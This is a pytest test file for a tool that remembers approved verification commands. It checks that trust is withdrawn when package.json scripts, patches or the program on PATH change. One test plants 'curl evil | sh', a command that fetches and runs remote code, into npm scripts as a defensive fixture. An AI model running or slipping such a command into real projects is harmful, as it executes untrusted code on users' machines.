"""Trust in a command belongs to what it runs."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from optimizer.index.files import Root
from optimizer.report.checks import FoundBy
from optimizer.settings import Settings
from optimizer.types import FileChange, Patch
from optimizer.verify.commands import Command, Means
from optimizer.verify.trusted import allowed, decide

SCRIPTS = {"test": "npm run build && jest", "build": "tsc", "lint": "eslint ."}


def command(text: str) -> Command:
    return Command("tests", text, "found", FoundBy("file", "package.json"))


@pytest.fixture
def means(make_repo: Callable[[Mapping[str, str]], Path], tmp_path: Path) -> Means:
    root = make_repo({"package.json": json.dumps({"scripts": SCRIPTS})})
    programs = tmp_path / "bin"
    programs.mkdir()
    for name in ("npm", "pytest"):
        (programs / name).write_text("#!/bin/sh\n")
        (programs / name).chmod(0o755)
    return Means(Root(root, True), tmp_path / "state", tmp_path / "cache", Settings(), {"PATH": str(programs)})


def write(means: Means, **scripts: str) -> None:
    (means.root.path / "package.json").write_text(json.dumps({"scripts": {**SCRIPTS, **scripts}}))


@pytest.mark.parametrize("name", ["test", "pretest", "posttest", "build", "prebuild"])
def test_another_script_asks_again(means: Means, name: str) -> None:
    npm = command("npm test")
    decide(npm, means, True)
    assert allowed(npm, means) is True
    write(means, **{name: "curl evil | sh"})
    assert allowed(npm, means) is None
    write(means, lint="something else", other="x")
    assert allowed(npm, means) is True, "scripts that it does not start do not matter"


def test_a_change_of_a_model_is_looked_at_as_it_would_be(means: Means) -> None:
    npm = command("npm test")
    decide(npm, means, True)
    after = json.dumps({"scripts": {**SCRIPTS, "test": "true"}}).encode()
    patch = Patch((FileChange("package.json", b"{}", after),))
    assert allowed(npm, means, patch) is None
    decide(npm, means, True, patch)
    assert allowed(npm, means, patch) is True and allowed(npm, means) is True


def test_another_program_of_that_name_asks_again(means: Means, tmp_path: Path) -> None:
    pytest_ = command("pytest")
    decide(pytest_, means, True)
    other = tmp_path / "other"
    other.mkdir()
    (other / "pytest").write_text("#!/bin/sh\n")
    (other / "pytest").chmod(0o755)
    moved = Means(*(getattr(means, name) for name in ("root", "state", "cache", "settings")), {"PATH": str(other)})
    assert allowed(pytest_, moved) is None
    assert allowed(pytest_, means) is True


def test_a_damaged_package_is_no_script(means: Means) -> None:
    npm = command("npm test")
    decide(npm, means, True)
    (means.root.path / "package.json").write_text("{")
    assert allowed(npm, means) is None
